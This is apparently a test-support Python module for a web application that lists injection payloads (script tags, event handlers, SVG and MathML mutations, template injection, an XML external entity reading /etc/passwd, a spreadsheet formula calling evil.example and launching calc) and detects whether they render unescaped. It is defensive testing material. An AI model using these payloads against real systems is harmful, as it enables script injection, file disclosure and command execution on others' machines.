"""Texts that become script, markup, a foreign request or syntax of another language wherever they are not kept as text.

Whatever runs sets `top.ran`; whatever fetches asks `evil.example`. `tagged` puts a mark behind a text that says which one it is and in
which field it stands: a comment in script and style, so that the text bites as before.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator

RUN = "top.ran=1"
EVIL = "evil.example"
PAYLOADS: dict[str, str] = {
    # Elements
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src=//{EVIL}/x.js></script>",
    "image that fails": f"<img src=x onerror={RUN}>",
    "image from elsewhere": f"<img src=//{EVIL}/x.png>",
    "frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "details": f"<details open ontoggle={RUN}>x",
    "refresh": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "base": f"<base href=//{EVIL}/>",
    "form": f"<form action=//{EVIL}><button formaction=javascript:{RUN}>x",
    "sheet from elsewhere": f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "link": f"<a href=javascript:{RUN}>href</a>",
    # Attributes
    "double quote": f'" autofocus onfocus="{RUN}',
    "single quote": f"' autofocus onfocus='{RUN}",
    "no quote": f"x onmouseover={RUN} y=",
    "out of an attribute": f"\"'></a></option><svg onload={RUN}>",
    # Ends of elements whose content is no markup
    "end of a script": f"</script><script>{RUN}</script>",
    "odd end of a script": f"</sCrIpT\t><script>{RUN}//",
    "script in a comment": f"<!--<script>{RUN}</script>",
    "end of a comment": f"--><script>{RUN}</script><!--",
    "end of raw text": f"</style></title></textarea></noscript><svg onload={RUN}>",
    "end of a data block": f'"]}}]]></script><img src=x onerror={RUN}>',
    # SVG and MathML
    "animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "script in a drawing": f'<svg><script href="data:,{RUN}"/></svg>',
    "link in a drawing": f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    "mutation": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    # Entities
    "entities": f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    # CSS
    "rule": f"}}*{{background:url(//{EVIL}/c.png)}}",
    "declaration": f"x;background:url(//{EVIL}/d.png);--x:",
    # Templates
    "template": f"{{{{ 7*7 }}}}{{% raw %}}${{{RUN}}}<%= 7*7 %>",
    "template with a call": f"{{{{constructor.constructor('{RUN}')()}}}}",
    # Strings of script
    "string": f"'-({RUN})-\"-({RUN})-`${{{RUN}}}`\\",
    "prototype": "__proto__[constructor]",
    "escapes of script": f"\\u003cimg src=x onerror={RUN}\\u003e\\x3cscript\\x3e",
    # Addresses
    "javascript:": f"javascript:{RUN}",
    "javascript: in disguise": f" \x01JaVa\tScRiPt&colon;{RUN}",
    "data:": f"data:text/html,<script>{RUN}</script>",
    "no scheme": f"//{EVIL}/x",
    # Characters
    "direction": f"\u202eright\u2066to left\u202c \u0627\u0644<b onmouseover={RUN}>",
    "zero width": f"<\u200bsvg onload={RUN}\ufeff>\u200d",
    "line separators": f"\u2028{RUN}\u2029<img src=x onerror={RUN}>",
    "full width": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e\uff1cimg src=x onerror={RUN}\uff1e",
    "controls": f"\x00\x1b[31m<scr\x00ipt>{RUN}</script>\x7f\x85",
    "overlong": "W" * 2000 + f"<img src=x onerror={RUN}>",
    # Other languages
    "Markdown": f"[x](javascript:{RUN}) ![x](http://{EVIL}/m.png) `</code><img src=x onerror={RUN}>",
    "SPARQL": '" . } } ; DROP ALL ; # <urn:x> ?s ?p',
    "Turtle": f'\\" . <urn:a> <javascript:{RUN}> """ . \'\'\' @prefix : <urn:x> .',
    "XML": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><?xml-stylesheet href="javascript:{RUN}"?>&e;]]>',
    "formula": f'=HYPERLINK("http://{EVIL}/","x")+cmd|\' /C calc\'!A0',
}
NAMES = tuple(PAYLOADS)
TEXTS = tuple(PAYLOADS.values())
_MARK = re.compile(r"/\*(\d+):([a-z]+)\*/")
_SIGN = re.compile(r'<i class="unseen">U\+[0-9A-F]{4,6}</i>')
_DATA = re.compile(r'<script type="application/(?:ld\+)?json"[^>]*>(.*?)</script>', re.DOTALL)


def tagged(field: str, number: int) -> str:
    """The payload of a number (they begin anew behind the last) with the mark of itself and of a field, whose name is of letters."""
    at = number % len(TEXTS)
    return f"{TEXTS[at]}/*{at}:{field}*/"


_ALIKE = re.compile("[\x00-\x20\x7f-\xa0\xad\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff\ufffd\ud800-\udfff_-]+")


def plain(text: str) -> str:
    """A text without case, blanks, hyphens, lines, controls and marks of direction, in which pages and data may differ."""
    return _ALIKE.sub("", text).casefold()


_PLAIN = tuple(map(plain, TEXTS))


def met(text: str) -> Iterator[tuple[str, int]]:
    """The marks in a text whose payload stands before them, letter for letter: field and number."""
    whole = plain(text)
    for mark in _MARK.finditer(whole):
        number = int(mark[1])
        if whole.startswith(_PLAIN[number], mark.start() - len(_PLAIN[number])):
            yield mark[2], number


def met_on(page: str) -> set[tuple[str, int]]:
    """The marks on a page, in its text, its attributes and its data; signs for what cannot be seen are left out."""
    page = _SIGN.sub("", page)
    blocks = " ".join(_strings(json.loads(block)) for block in _DATA.findall(page))
    return {*met(html.unescape(page)), *met(blocks)}


def _strings(value: object) -> str:
    if isinstance(value, dict):
        return " ".join([*value, *map(_strings, value.values())])
    return " ".join(map(_strings, value)) if isinstance(value, list) else str(value)
